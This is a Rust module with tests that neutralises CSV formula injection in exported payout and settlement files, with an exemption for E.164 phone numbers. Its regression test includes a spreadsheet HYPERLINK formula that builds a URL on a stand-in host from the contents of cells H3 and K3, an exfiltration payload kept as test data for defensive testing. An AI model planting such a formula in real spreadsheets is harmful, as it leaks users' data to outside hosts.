//! CSV fields a spreadsheet opens as text, never as a formula: every CSV the edge writes
//! (the payout file, settlement lines) goes through here.
//!
//! A cell whose first character is `=`, `+`, `-`, `@`, a tab or a carriage return is read
//! by Excel, LibreOffice and Google Sheets as a formula (OWASP, "CSV Injection"); RFC 4180
//! quoting does not stop them. Such a field is written with a leading `'`, which the
//! spreadsheet shows and never runs. Leading spaces and line feeds are looked through, as
//! some spreadsheets trim them before deciding. The one exception is a phone in E.164
//! (`+` and 7 to 15 digits, the first not `0`), which keeps its `+` ([`phone`]): nothing
//! else in the cell can make it a formula.
//!
//! ```
//! use vale_shared::csv;
//! assert_eq!(csv::field("=HYPERLINK(\"x\")"), "\"'=HYPERLINK(\"\"x\"\")\"");
//! assert_eq!(csv::field("Pérez, Ana"), "\"Pérez, Ana\"");
//! assert_eq!(csv::phone("+573001234567"), "+573001234567");
//! assert_eq!(csv::phone("+5+HYPERLINK(1)"), "'+5+HYPERLINK(1)");
//! ```

/// Characters that make a spreadsheet read a cell as a formula when they lead it.
pub const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether a spreadsheet could read `raw` as a formula: its first character that is not a
/// space or a line feed (or its very first, if a tab or CR) is one of [`FORMULA_STARTS`].
pub fn is_formula(raw: &str) -> bool {
    raw.chars()
        .find(|c| !matches!(c, ' ' | '\n'))
        .is_some_and(|c| FORMULA_STARTS.contains(&c))
}

/// Whether `raw` is a phone in E.164: `+`, then 7 to 15 digits, the first not `0`.
pub fn is_e164(raw: &str) -> bool {
    raw.strip_prefix('+').is_some_and(|digits| {
        (7..=15).contains(&digits.len())
            && digits.bytes().all(|b| b.is_ascii_digit())
            && !digits.starts_with('0')
    })
}

/// One free-text CSV field: neutralised (a leading `'` when it could be a formula), then
/// quoted per RFC 4180 when it holds a comma, a quote or a line break.
pub fn field(raw: &str) -> String {
    if is_formula(raw) {
        quote(&format!("'{raw}"))
    } else {
        quote(raw)
    }
}

/// A phone column: a valid E.164 number keeps its `+`; anything else is a [`field`].
pub fn phone(raw: &str) -> String {
    if is_e164(raw) {
        raw.to_owned()
    } else {
        field(raw)
    }
}

fn quote(text: &str) -> String {
    if text.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", text.replace('"', "\"\""))
    } else {
        text.to_owned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;
    #[cfg(target_arch = "wasm32")]
    use wasm_bindgen_test::wasm_bindgen_test as test;

    /// Reads one CSV record back as a spreadsheet's importer would (RFC 4180).
    fn parse(line: &str) -> Vec<String> {
        let mut cells = vec![String::new()];
        let mut quoted = false;
        let mut chars = line.chars().peekable();
        while let Some(c) = chars.next() {
            let cell = cells.last_mut().unwrap();
            match (quoted, c) {
                (true, '"') if chars.peek() == Some(&'"') => {
                    chars.next();
                    cell.push('"');
                }
                (true, '"') => quoted = false,
                (false, '"') if cell.is_empty() => quoted = true,
                (false, ',') => cells.push(String::new()),
                (_, c) => cell.push(c),
            }
        }
        cells
    }

    /// Regression (review M4): the `+5` exemption meant for phones let
    /// `+5+HYPERLINK(…)` through in the free-text `bank` column.
    #[test]
    fn formulas_are_neutralised_and_only_a_phone_keeps_its_plus() {
        for formula in [
            "=1+1",
            "+5+HYPERLINK(\"https://x.example/?\"&H3&K3,\"ver\")",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "  =1",
            "\n=1",
            "+573001234567",
        ] {
            let cell = parse(&field(formula)).remove(0);
            assert!(cell.starts_with('\''), "{formula:?} → {cell:?}");
            assert_eq!(&cell[1..], formula);
        }
        assert_eq!(phone("+573001234567"), "+573001234567");
        assert_eq!(phone("+51987654321"), "+51987654321");
        for not_a_phone in ["+5+HYPERLINK(1)", "+0123456789", "+12", "+5730012345678901"] {
            assert!(phone(not_a_phone).starts_with('\''), "{not_a_phone}");
        }
        assert_eq!(field("Ana Pérez"), "Ana Pérez");
        assert_eq!(field("a\"b"), "\"a\"\"b\"");
        assert_eq!(field(""), "");
    }

    proptest! {
        /// Whatever the text, the cell a CSV reader gets back is the text (or the text
        /// after one `'`), and it never starts with a formula character.
        #[test]
        fn no_cell_ever_starts_a_formula(raw in "[=+@\\-\t\r\n \"a-z,0-9]{0,12}") {
            let cells = parse(&field(&raw));
            prop_assert_eq!(cells.len(), 1);
            let cell = &cells[0];
            prop_assert!(!is_formula(cell), "{:?} → {:?}", raw, cell);
            prop_assert_eq!(cell.strip_prefix('\'').filter(|_| is_formula(&raw)).unwrap_or(cell), raw.as_str());
        }
    }
}
